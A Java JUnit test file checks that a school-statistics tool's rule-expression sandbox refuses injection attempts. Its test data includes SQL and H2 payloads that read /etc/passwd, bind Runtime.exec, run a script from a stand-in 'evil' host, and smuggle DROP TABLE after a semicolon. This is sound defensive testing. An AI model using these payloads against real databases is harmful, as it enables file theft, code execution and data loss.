package org.emisworkbench.rules;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.io.ByteArrayInputStream;
import java.nio.charset.StandardCharsets;
import org.emisworkbench.model.GradeSystem;
import org.emisworkbench.rules.expr.Bindings;
import org.emisworkbench.rules.expr.PreparedExpr;
import org.emisworkbench.rules.expr.Presence;
import org.emisworkbench.rules.expr.Expressions;
import org.emisworkbench.rules.expr.FieldCatalog;
import org.emisworkbench.rules.expr.Sandbox;
import org.emisworkbench.rules.expr.Scope;
import org.emisworkbench.rules.expr.Value;
import org.emisworkbench.rules.expr.ValueSource;
import org.emisworkbench.rules.pack.PackLoadException;
import org.emisworkbench.rules.pack.PackLoader;
import org.emisworkbench.rules.pack.PackProblem;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

class SandboxRuleTest {
    private static final FieldCatalog CATALOG = FieldCatalog.standard(GradeSystem.standard());

    @ParameterizedTest
    @CsvSource(delimiter = '|', value = {
        "CSVWRITE('/tmp/x.csv', 'SELECT 1')|CSVWRITE",
        "csvread('/etc/passwd')|csvread",
        "1; CREATE ALIAS EXEC AS 'String x'|;",
        "CREATE ALIAS x FOR 'java.lang.Runtime.exec'|CREATE",
        "RUNSCRIPT FROM 'http://evil/x.sql'|RUNSCRIPT",
        "LINK_SCHEMA('a', '', 'jdbc:h2:mem:', '', '', 'PUBLIC')|LINK_SCHEMA",
        "FILE_READ('/etc/passwd')|FILE_READ",
        "FILE_WRITE('x', '/tmp/y')|FILE_WRITE",
        "school.name = 'x'; DROP TABLE fact|;",
        "school.name = '' DROP TABLE fact|DROP",
        "enrolment -- comment|--",
        "enrolment /* hidden */ + 1|/*",
        "EXEC xp_cmdshell|EXEC",
        "enrolment + java:java.lang.System.exit(0)|java:",
        "SELECT 1|SELECT",
        "enrolment UNION ALL|UNION",
        "CALL 1|CALL",
        "school.name = \"x\"|\""})
    void smugglingAttemptsAreRefusedByName(String text, String word) {
        Expressions.Compilation c = Expressions.compile(text, CATALOG, Scope.SCHOOL_YEAR);
        assertFalse(c.ok());
        assertEquals("expression uses '" + word + "', which is not part of the rule language",
                c.problems().get(0).detail());
    }

    @Test
    void hostileSizeAndNestingAreRefusedNotCrashed() {
        String deep = "(".repeat(500) + "1" + ")".repeat(500);
        assertTrue(Expressions.compile(deep, CATALOG, Scope.SCHOOL_YEAR).problems().get(0).detail()
                .contains("nests deeper than 64"));
        String negations = "- ".repeat(300) + "1";
        assertTrue(Expressions.compile(negations, CATALOG, Scope.SCHOOL_YEAR).problems().get(0).detail()
                .contains("nests deeper"));
        assertTrue(Expressions.compile("not ".repeat(300) + "1 < 2", CATALOG, Scope.SCHOOL_YEAR).problems().get(0)
                .detail().contains("nests deeper"));
        assertTrue(Expressions.compile("1" + " + 1".repeat(2000), CATALOG, Scope.SCHOOL_YEAR).problems().get(0)
                .detail().contains("longer than 4000"));
        assertTrue(Expressions.compile("sum(" + "1, ".repeat(500) + "1)", CATALOG, Scope.SCHOOL_YEAR).ok());
        // A chain is a tree as deep as it is long: past 256 operators it is refused, not left to the stack.
        assertTrue(Expressions.compile("1" + "+1".repeat(1999), CATALOG, Scope.SCHOOL_YEAR).problems().get(0)
                .detail().contains("chains more than 256 '+' in a row"));
        assertTrue(Expressions.compile("1 < 2" + " and 1 < 2".repeat(300), CATALOG, Scope.SCHOOL_YEAR).problems()
                .get(0).detail().contains("chains more than 256 'and'"));
        // The longest chain allowed still checks and evaluates.
        var chain = Expressions.compileOrThrow("1" + "+1".repeat(256), CATALOG, Scope.SCHOOL_YEAR);
        assertEquals(new Value.Num(257), PreparedExpr.of(chain, CATALOG).evaluate(ValueSource.EMPTY, Bindings.NONE,
                new Presence()));
    }

    @Test
    void refusalPointsAtTheWord() {
        var e = Sandbox.check("enrolment +\n  CSVWRITE('x')").orElseThrow();
        assertEquals(2, e.pos().line());
        assertEquals(3, e.pos().column());
    }

    @Test
    void ordinaryExpressionsAndNamesContainingWordsPass() {
        assertTrue(Sandbox.check("sum(enrolment[grade=*]) / teachers.total - -1").isEmpty());
        assertTrue(Sandbox.check("school.status = 'selected_updates'").isEmpty());
        assertTrue(Sandbox.check("classrooms.good").isEmpty());
    }

    @Test
    void packRefusalNamesTheRule() {
        String json = """
            {"id": "p", "version": "1", "title": "t", "rules": [
              {"id": "X1", "title": "t", "severity": "error", "left": "CSVWRITE('/tmp/a', 'x')", "operator": "=",
               "right": "1", "message": {"en": "e", "fr": "f"}},
              {"id": "X2", "title": "t", "severity": "error", "kind": "code_list", "field": "school.name; DROP",
               "list": ["a"], "message": {"en": "e", "fr": "f"}}]}
            """;
        PackLoadException e = org.junit.jupiter.api.Assertions.assertThrows(PackLoadException.class,
                () -> new PackLoader(CATALOG).load(new ByteArrayInputStream(json.getBytes(StandardCharsets.UTF_8)), "t"));
        assertEquals(2, e.problems().size(), e.getMessage());
        PackProblem first = e.problems().get(0);
        assertEquals("rule X1, left, line 1, column 1: expression uses 'CSVWRITE', which is not part of the rule language",
                first.toString());
        assertEquals("X2", e.problems().get(1).ruleId());
        assertTrue(e.problems().get(1).message().contains("';'"), e.problems().get(1).message());
    }
}
